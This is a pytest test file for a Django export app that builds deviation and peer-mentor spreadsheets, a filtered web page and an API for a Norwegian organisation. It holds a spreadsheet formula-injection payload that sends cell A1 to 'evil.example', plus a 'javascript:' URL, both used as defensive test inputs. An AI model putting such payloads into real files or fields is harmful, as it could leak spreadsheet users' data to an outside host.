"""Deviations where the work is done: links on Avvik, the page's list, the API's list and the sheet Likepersoner."""

from __future__ import annotations

import copy
import datetime as dt
import io
from collections import Counter, defaultdict
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command

from api.tokens import issue_token
from exports.config.validation import validate_document
from exports.demo.configs import nhf_config
from exports.domain import Period
from exports.models import Activity, BufdirExportAudit, ExportDeviation, Organisation
from tests import factories
from tests.rules.test_recomputation import NHF_CATEGORIES

pytestmark = pytest.mark.django_db
OSLO = ZoneInfo("Europe/Oslo")
COUNTING = {"oppsokende", "samtalegruppe", "aktivitetsgruppe", "kurs"}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'


def with_url(url: object) -> dict:
    """NHF's document naming `url` as the app's address of a registration."""
    document = copy.deepcopy(nhf_config())
    document["activity_url"] = url
    return document


@pytest.mark.parametrize(
    "url", ["https://app.nhf.example/aktiviteter/{id}", "https://app.example.no/a?registrering={id}&vis=1"]
)
def test_an_https_address_with_one_id_may_be_saved(url):
    assert validate_document(with_url(url)) == []


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("http://app.nhf.example/aktiviteter/{id}", "https://"),
        ("javascript:alert(1)//{id}", "https://"),
        ("https://app.nhf.example/aktiviteter/", "{id}"),
        ("https://app.nhf.example/{id}/{id}", "{id}"),
        ("https://app.nhf.example/{name}/{id}", "krøllparenteser"),
        ("https://app.nhf.example/a b/{id}", "mellomrom"),
        ('https://app.nhf.example/"/{id}', "anførselstegn"),
        ("https://user:pw@app.nhf.example/{id}", "vert"),
        ("https://app.nhf.example/" + "x" * 500 + "{id}", "500"),
        (42, "tekst"),
    ],
)
def test_a_bad_address_is_refused_in_norwegian_at_its_field(url, words):
    errors = validate_document(with_url(url))
    assert errors and all(error.path == "$.activity_url" for error in errors), errors
    assert any(words in error.message for error in errors), errors


@pytest.fixture
def demo(run_export):
    """The seeded demo data, exported for last year: NHF, its export and the bundle."""
    call_command("seed_demo", activities=4000, seed=7, stdout=io.StringIO())
    org = Organisation.objects.get(slug="nhf")
    year = dt.date.today().year - 1
    finished = run_export(org, Period.year(year))
    return org, year, finished


def recount_mentors(org: Organisation, year: int) -> dict[str, dict]:
    """Each peer mentor's activities in the year, counted again from the database (rejected ones are not listed)."""
    mentors: dict[str, dict] = defaultdict(lambda: {"documented": 0, "counting": 0, "branches": set()})
    for activity in (
        Activity.objects.filter(organisation=org, peer_mentor__isnull=False)
        .exclude(status="deleted")
        .select_related("peer_mentor", "local_branch")
    ):
        if activity.started_at.astimezone(OSLO).year != year:
            continue
        line = mentors[str(activity.peer_mentor_id)]
        line["name"], line["certified_on"] = activity.peer_mentor.full_name, activity.peer_mentor.certified_on
        if activity.local_branch is not None:
            line["branches"].add(activity.local_branch.name)
        if activity.status != "rejected":
            line["documented"] += 1
            line["counting"] += NHF_CATEGORIES[activity.activity_type] in COUNTING
    return mentors


def test_avvik_links_every_row_to_its_registration_and_the_table_keeps_the_same_rows(demo):
    org, _year, finished = demo
    bundle = finished.succeeded_bundle
    sheet = bundle.workbook["Avvik"]
    headings = [cell.value for cell in sheet[1]]
    assert headings[-1] == "Lenke"
    links = {}
    for row in sheet.iter_rows(min_row=2):
        by_heading = dict(zip(headings, row, strict=True))
        link = by_heading["Lenke"]
        assert link.value == "Åpne i appen" and link.data_type == "s"
        links[by_heading["Aktivitets-ID"].value] = link.hyperlink.target
    assert links and all(
        target == f"https://app.nhf.example/aktiviteter/{activity_id}" for activity_id, target in links.items()
    )
    stored = ExportDeviation.objects.filter(audit=finished.audit)
    assert {str(row.activity_id): row.activity_url for row in stored} == links
    avvik = {row["Aktivitets-ID"]: row for row in bundle.rows("Avvik")}
    for row in stored:
        on_sheet = avvik[str(row.activity_id)]
        assert "; ".join(row.reason_list) == on_sheet["Årsak"]
        assert row.action == on_sheet["Slik retter du det"]
        assert row.peer_mentor == (on_sheet["Likeperson"] or "")


def test_likepersoner_agrees_with_an_independent_recount(demo):
    org, year, finished = demo
    bundle = finished.succeeded_bundle
    expected = recount_mentors(org, year)
    rows = bundle.rows("Likepersoner")
    assert len(rows) == len(expected) == bundle.manifest["peer_mentors"]["rows"]
    assert "Likepersoner" in bundle.manifest["sheets"]
    by_name = Counter(line["name"] for line in expected.values())
    assert all(count == 1 for count in by_name.values()), "the demo's peer mentors have unique names"
    expected_by_name = {line["name"]: line for line in expected.values()}
    counted_total = 0
    flagged = 0
    for row in rows:
        line = expected_by_name[row["Likeperson"]]
        assert row["Dokumenterte aktiviteter"] == line["documented"]
        assert row["I tellende kategorier"] == line["counting"]
        assert set(row["Lokallag"].split(", ")) == line["branches"]
        if line["certified_on"] is None:
            assert row["Godkjent fra"] == "Ikke godkjent"
        else:
            assert row["Godkjent fra"].date() == line["certified_on"]
        uncertified = line["certified_on"] is None and line["counting"] > 0
        assert (row["Merknad"] == "Ikke godkjent likeperson, men har aktiviteter i tellende kategorier") == uncertified
        flagged += uncertified
        counted_total += row["Tellende aktiviteter"]
    assert flagged, "the demo data has uncertified peer mentors with outreach"
    with_mentor = sum(1 for row in bundle.rows("Aktiviteter") if row["Tellende"] == "Ja" and row["Likeperson"])
    assert counted_total == with_mentor
    sheet = bundle.workbook["Likepersoner"]
    marked = [row for row in sheet.iter_rows(min_row=2) if row[6].value]
    assert marked and all(cell.font.b for row in marked for cell in row)
    assert sheet.freeze_panes == "A2" and sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation in ("portrait", "landscape") and int(sheet.page_setup.scale) >= 74


def test_a_hostile_peer_mentor_name_stays_text_on_likepersoner_and_avvik(run_export):
    org = factories.organisation("nhf")
    mentor = factories.mentor(org, factories.branch(org), certified_on=None, name=HOSTILE_NAME)
    factories.activity(org, peer_mentor=mentor, activity_type="sykehusbesok")
    bundle = run_export(org).succeeded_bundle
    [row] = list(bundle.workbook["Likepersoner"].iter_rows(min_row=2))
    assert row[0].value == HOSTILE_NAME and row[0].data_type == "s" and row[0].quotePrefix
    assert row[2].value == "Ikke godkjent" and row[6].value.startswith("Ikke godkjent likeperson")
    [deviation] = list(bundle.workbook["Avvik"].iter_rows(min_row=2))
    assert HOSTILE_NAME in [cell.value for cell in deviation]
    assert all(cell.data_type != "f" for cell in deviation)


@pytest.fixture
def nhf_admin(demo, client):
    """The demo's NHF administrator, logged in."""
    org, _year, _finished = demo
    user = factories.member(org, username="nhf-test-admin")
    client.force_login(user)
    return user


def test_the_page_lists_filters_and_pages_the_current_exports_deviations(demo, nhf_admin, client):
    org, _year, finished = demo
    url = f"/exports/{org.slug}/deviations/"
    page = client.get(f"/exports/{org.slug}/")
    assert f'href="{url}"' in page.content.decode() and 'id="deviations-link"' in page.content.decode()
    response = client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    total = ExportDeviation.objects.filter(audit=finished.audit).count()
    assert total == finished.audit.rows_deviations > 25
    assert response.context["page"].paginator.count == total
    assert len(response.context["page"].object_list) == 25
    assert len(client.get(url, {"per_page": "10"}).context["page"].object_list) == 10
    assert len(client.get(url, {"per_page": "100000"}).context["page"].object_list) == 25
    assert "Åpne i appen" in html and "https://app.nhf.example/aktiviteter/" in html and "Neste" in html
    second = client.get(url, {"page": 2})
    assert not {r.pk for r in second.context["page"].object_list} & {r.pk for r in response.context["page"]}

    reason, count = next(iter(finished.audit.result["deviations_by_reason"].items()))
    filtered = client.get(url, {"reason": reason})
    assert filtered.context["page"].paginator.count == count
    assert all(reason in row.reason_list for row in filtered.context["page"].object_list)
    branch = ExportDeviation.objects.filter(audit=finished.audit).exclude(local_branch="").first().local_branch
    by_branch = client.get(url, {"local_branch": branch})
    assert (
        by_branch.context["page"].paginator.count
        == ExportDeviation.objects.filter(audit=finished.audit, local_branch=branch).count()
    )
    mentor = ExportDeviation.objects.filter(audit=finished.audit).exclude(peer_mentor="").first().peer_mentor
    by_mentor = client.get(url, {"peer_mentor": mentor.split()[0].lower()})
    assert by_mentor.context["page"].paginator.count >= 1
    assert all(mentor.split()[0].lower() in row.peer_mentor.lower() for row in by_mentor.context["page"])
    nothing = client.get(url, {"reason": "ingen slik årsak"})
    assert "Ingen avvik passer til filteret." in nothing.content.decode()


def test_another_organisations_deviations_are_404(demo, nhf_admin, client):
    assert client.get("/exports/hlf-demo/deviations/").status_code == 404
    assert client.get("/exports/finnes-ikke/deviations/").status_code == 404
    client.logout()
    assert client.get("/exports/nhf/deviations/").status_code == 302


def test_the_page_says_so_when_there_is_no_finished_export(client):
    org = factories.organisation("nhf")
    client.force_login(factories.member(org))
    response = client.get("/exports/nhf/deviations/")
    assert response.status_code == 200 and 'id="deviations-none"' in response.content.decode()


def test_the_api_lists_the_same_rows_filtered_and_paged(demo, nhf_admin, client):
    org, _year, finished = demo
    headers = {"HTTP_AUTHORIZATION": f"Bearer {issue_token(user=nhf_admin, organisation=org, name='t').secret}"}
    path = f"/api/v1/exports/{finished.audit.pk}/deviations"
    first = client.get(path, {"limit": 20}, **headers)
    assert first.status_code == 200, first.content
    body = first.json()
    assert body["total"] == finished.audit.rows_deviations and len(body["items"]) == 20
    items = list(body["items"])
    while len(items) < body["total"]:
        items += client.get(path, {"limit": 500, "offset": len(items)}, **headers).json()["items"]
    ids = [item["activity_id"] for item in items]
    assert len(ids) == len(set(ids)) == body["total"]
    assert set(ids) == {row["Aktivitets-ID"] for row in finished.succeeded_bundle.rows("Avvik")}
    item = body["items"][0]
    assert item["activity_url"] == f"https://app.nhf.example/aktiviteter/{item['activity_id']}"
    assert item["reasons"] and item["action"]
    reason, count = next(iter(finished.audit.result["deviations_by_reason"].items()))
    filtered = client.get(path, {"reason": reason, "limit": 500}, **headers).json()
    assert filtered["total"] == count and all(reason in entry["reasons"] for entry in filtered["items"])
    branch = item["local_branch"]
    by_branch = client.get(path, {"local_branch": branch, "limit": 500}, **headers).json()
    assert by_branch["total"] >= 1 and {entry["local_branch"] for entry in by_branch["items"]} == {branch}
    schema = client.get("/api/v1/openapi.json").json()
    operation = schema["paths"]["/api/v1/exports/{export_id}/deviations"]["get"]
    assert {"reason", "local_branch", "peer_mentor", "limit", "offset"} <= {p["name"] for p in operation["parameters"]}
    assert {"200", "404", "409"} <= set(operation["responses"])


def test_the_api_answers_404_for_another_organisation_and_409_before_success(demo, nhf_admin, client):
    org, _year, finished = demo
    hlf = Organisation.objects.get(slug="hlf-demo")
    other = factories.member(hlf, username="hlf-test-admin")
    foreign = {"HTTP_AUTHORIZATION": f"Bearer {issue_token(user=other, organisation=hlf, name='t').secret}"}
    response = client.get(f"/api/v1/exports/{finished.audit.pk}/deviations", **foreign)
    assert response.status_code == 404 and response.json()["code"] == "not_found"
    pending = BufdirExportAudit.objects.create(
        organisation=org, period_from=dt.date(2020, 1, 1), period_to=dt.date(2020, 12, 31)
    )
    own = {"HTTP_AUTHORIZATION": f"Bearer {issue_token(user=nhf_admin, organisation=org, name='u').secret}"}
    response = client.get(f"/api/v1/exports/{pending.pk}/deviations", **own)
    assert response.status_code == 409
    body = response.json()
    assert set(body) == {"code", "message", "fields", "export"} and body["code"] == "export_not_succeeded"
    assert body["export"]["id"] == pending.pk


def test_an_export_from_before_deviations_were_kept_says_to_export_again(demo, nhf_admin, client):
    _org, _year, finished = demo
    ExportDeviation.objects.filter(audit=finished.audit).delete()
    html = client.get("/exports/nhf/deviations/").content.decode()
    assert "Start en ny eksport av samme periode" in html


def test_a_failed_store_keeps_no_deviation_rows(run_export, export_files, monkeypatch):
    org = factories.organisation("nhf")
    factories.activity(org, peer_mentor=factories.mentor(org, factories.branch(org)), municipality_code="9999")
    from exports.container import services

    def refuse(*args, **kwargs):
        raise OSError("storage down")

    monkeypatch.setattr(services().storage, "save", refuse)
    finished = run_export(org)
    assert finished.audit.status == BufdirExportAudit.Status.FAILED
    assert not ExportDeviation.objects.filter(audit=finished.audit).exists()
